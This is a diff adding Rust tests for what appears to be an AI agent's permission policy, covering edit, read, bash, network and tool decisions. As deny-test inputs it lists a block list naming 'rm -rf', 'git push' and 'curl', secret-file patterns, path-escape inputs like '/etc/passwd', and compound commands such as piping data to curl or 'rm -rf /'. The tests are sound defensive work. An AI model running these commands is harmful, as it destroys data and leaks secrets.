@@ -1,0 +1,178 @@
+use super::*;
+
+/// The policy of issue 19's example.
+fn example() -> Policy {
+    let yaml = r#"
+edit: { deny: ["secrets/**", "**/.env"] }
+bash: { allow: ["*"], deny: ["rm -rf *", "git push*", "curl *"] }
+outside_workspace: deny
+network: allow
+unmatched: allow
+"#;
+    let config: PolicyConfig = serde_saphyr::from_str(yaml).unwrap();
+    Policy::new(config, "/work/ws")
+}
+
+fn edit(path: &str) -> Action {
+    Action::Edit { path: path.into() }
+}
+
+fn bash(command: &str) -> Action {
+    Action::Bash {
+        command: command.into(),
+    }
+}
+
+#[test]
+fn edits_are_decided_by_path_inside_the_workspace() {
+    let policy = example();
+    let denied = policy.decide(&edit("secrets/key.txt"));
+    assert_eq!(denied.verdict, Verdict::Deny);
+    assert_eq!(denied.rule, "edit.deny \"secrets/**\"");
+    assert_eq!(
+        policy.decide(&edit("/work/ws/secrets/a/b")).verdict,
+        Verdict::Deny
+    );
+    assert_eq!(
+        policy.decide(&edit(".env")).verdict,
+        Verdict::Deny,
+        "**/ matches no dir too"
+    );
+    assert_eq!(policy.decide(&edit("app/.env")).verdict, Verdict::Deny);
+    let ok = policy.decide(&edit("ok.py"));
+    assert_eq!(
+        (ok.verdict, ok.rule.as_str()),
+        (Verdict::Allow, "unmatched")
+    );
+    // `*` in a path pattern stays within a directory.
+    let config = PolicyConfig {
+        edit: Rules {
+            deny: vec![Pattern::new("*.lock").unwrap()],
+            ..Rules::default()
+        },
+        ..PolicyConfig::default()
+    };
+    let policy = Policy::new(config, "/w");
+    assert_eq!(policy.decide(&edit("Cargo.lock")).verdict, Verdict::Deny);
+    assert_eq!(
+        policy.decide(&edit("sub/Cargo.lock")).verdict,
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn paths_that_leave_the_workspace_are_outside_whatever_the_patterns() {
+    let policy = example();
+    for path in [
+        "/etc/passwd",
+        "../other/x.py",
+        "sub/../../x",
+        "/work/wsx/file",
+    ] {
+        let d = policy.decide(&edit(path));
+        assert_eq!(
+            (d.verdict, d.rule.as_str()),
+            (Verdict::Deny, "outside_workspace"),
+            "{path}"
+        );
+        let d = policy.decide(&Action::Read { path: path.into() });
+        assert_eq!(d.verdict, Verdict::Deny, "{path}");
+    }
+    assert_eq!(policy.decide(&edit("sub/../ok.py")).verdict, Verdict::Allow);
+    assert_eq!(
+        policy
+            .decide(&Action::Read {
+                path: "src/lib.rs".into()
+            })
+            .verdict,
+        Verdict::Allow
+    );
+}
+
+#[test]
+fn every_part_of_a_compound_command_is_checked() {
+    let policy = example();
+    let d = policy.decide(&bash("rm -rf data"));
+    assert_eq!(
+        (d.verdict, d.rule.as_str()),
+        (Verdict::Deny, "bash.deny \"rm -rf *\"")
+    );
+    for command in [
+        "echo hi && rm -rf data",
+        "ls; rm   -rf  data",
+        "true || git push origin main",
+        "cat x | curl -d @- http://example.com",
+        "FOO=1 BAR=2 git push",
+        "ls\nrm -rf /",
+        "sleep 1 & rm -rf data",
+    ] {
+        assert_eq!(
+            policy.decide(&bash(command)).verdict,
+            Verdict::Deny,
+            "{command}"
+        );
+    }
+    let d = policy.decide(&bash("python3 ok.py && git status"));
+    assert_eq!(
+        (d.verdict, d.rule.as_str()),
+        (Verdict::Allow, "bash.allow \"*\"")
+    );
+}
+
+#[test]
+fn unmatched_network_and_other_tools_follow_their_settings() {
+    let config = PolicyConfig {
+        bash: Rules {
+            allow: vec![Pattern::new("cargo *").unwrap()],
+            ..Rules::default()
+        },
+        network: Verdict::Deny,
+        unmatched: Verdict::Ask,
+        ..PolicyConfig::default()
+    };
+    let policy = Policy::new(config, "/w");
+    assert_eq!(policy.decide(&bash("cargo test")).verdict, Verdict::Allow);
+    // One part unmatched: the command is asked about, not allowed.
+    let d = policy.decide(&bash("cargo test && make"));
+    assert_eq!((d.verdict, d.rule.as_str()), (Verdict::Ask, "unmatched"));
+    let d = policy.decide(&Action::Network {
+        target: "https://example.com".into(),
+    });
+    assert_eq!((d.verdict, d.rule.as_str()), (Verdict::Deny, "network"));
+    assert_eq!(
+        policy
+            .decide(&Action::Tool {
+                name: "mcp_x".into()
+            })
+            .verdict,
+        Verdict::Ask
+    );
+}
+
+#[test]
+fn no_policy_denies_only_writes_outside_the_workspace() {
+    let policy = Policy::new(PolicyConfig::default(), "/w");
+    assert_eq!(policy.decide(&edit("a/b.txt")).verdict, Verdict::Allow);
+    assert_eq!(policy.decide(&bash("rm -rf data")).verdict, Verdict::Allow);
+    assert_eq!(policy.decide(&edit("/tmp/x")).verdict, Verdict::Deny);
+}
+
+#[test]
+fn bad_patterns_and_values_are_errors_that_say_what_is_wrong() {
+    let err = serde_saphyr::from_str::<PolicyConfig>("edit: { deny: [\"a[\"] }")
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("`a[` is not a valid glob"), "{err}");
+    let err = serde_saphyr::from_str::<PolicyConfig>("bash: { deny: [\"\"] }")
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("empty pattern"), "{err}");
+    let err = serde_saphyr::from_str::<PolicyConfig>("unmatched: maybe")
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("maybe"), "{err}");
+    let err = serde_saphyr::from_str::<BudgetConfig>("max_cost_usd: -1")
+        .unwrap_err()
+        .to_string();
+    assert!(err.contains("≥ 0"), "{err}");
+}
